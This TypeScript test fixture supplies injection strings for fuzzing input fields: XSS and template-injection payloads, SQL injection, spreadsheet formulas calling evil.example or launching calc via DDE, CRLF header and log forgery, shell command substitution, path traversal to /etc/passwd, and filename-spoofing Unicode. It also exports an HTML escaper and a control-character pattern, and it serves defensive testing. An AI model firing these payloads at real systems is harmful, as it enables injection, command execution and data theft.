import { IS_QUICK } from '../../suite.js';

/** Single-line texts by the interpreter that they attack. */
const LINES = {
  page: [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    `' autofocus onfocus='alert(1)`,
    '</title></textarea></style><svg/onload=alert(1)>',
    '<!-- <![CDATA[ ]]>',
    '&lt;script&gt;&amp;&#39;&quot;',
    'javascript:alert(1)',
    '{{7*7}}${7*7}<%= 7*7 %><%~ it.body %>#{7*7}',
  ],
  statement: [
    `'; DROP TABLE posts; --`,
    `' OR '1'='1`,
    '" OR ""="',
    `\\' OR 1=1 #`,
    `x\\`,
    `%' UNION SELECT phone FROM users /*`,
    '? :id $1 @@version /*!50000 SELECT 1*/ `posts`',
  ],
  sheet: [
    '=HYPERLINK("http://evil.example","x")',
    `+1+cmd|' /C calc'!A0`,
    '-2+3+WEBSERVICE("http://evil.example")',
    '@SUM(1+1)',
    '\uFF1D1+1',
  ],
  header: ['%0d%0aSet-Cookie: stolen=1'],
  log: ['{"level":"fatal","msg":"forged"}'],
  program: [
    '$(id) `id` | id ; id && id',
    '../../../../etc/passwd',
    '%s%n%x {} {0}',
    '__proto__',
    'safe\u202Egnp.exe\u2066',
  ],
} satisfies Record<string, readonly string[]>;

/** These texts and multi-line ones, in the same groups. */
const PARAGRAPHS: readonly (readonly string[])[] = [
  LINES.page,
  LINES.statement,
  [...LINES.sheet, '\t=1+1', '\r=1+1'],
  [...LINES.header, 'x\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(1)</script>'],
  [...LINES.log, 'x\n{"level":"fatal","msg":"forged"}\n'],
  LINES.program,
];

export const HOSTILE_LINES: readonly string[] = Object.values(LINES).flat();
export const HOSTILE_PARAGRAPHS: readonly string[] = PARAGRAPHS.flat();

/**
 * The texts for the field with this index: every `oneIn`-th text of each group, at least one. The selection shifts from field to
 * field. A quick run selects a single text.
 */
export function textsFor(field: number, oneIn = 1): string[] {
  if (IS_QUICK)
    return HOSTILE_PARAGRAPHS.filter((_, at) => at === field % HOSTILE_PARAGRAPHS.length);
  return PARAGRAPHS.flatMap((texts) => {
    const step = Math.min(oneIn, texts.length);
    return texts.filter((_, at) => (at + field) % step === 0);
  });
}

/** The text escaped for HTML. */
export function escaped(text: string): string {
  return text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&#39;');
}

/** The text without the characters that a header does not allow. */
export function printable(text: string): string {
  return text.replaceAll(/[^\t -~]/g, '');
}

/** Control characters of terminals (ECMA-48), except tab and line feed. */
export const CONTROL = /(?![\t\n])\p{Cc}/u;
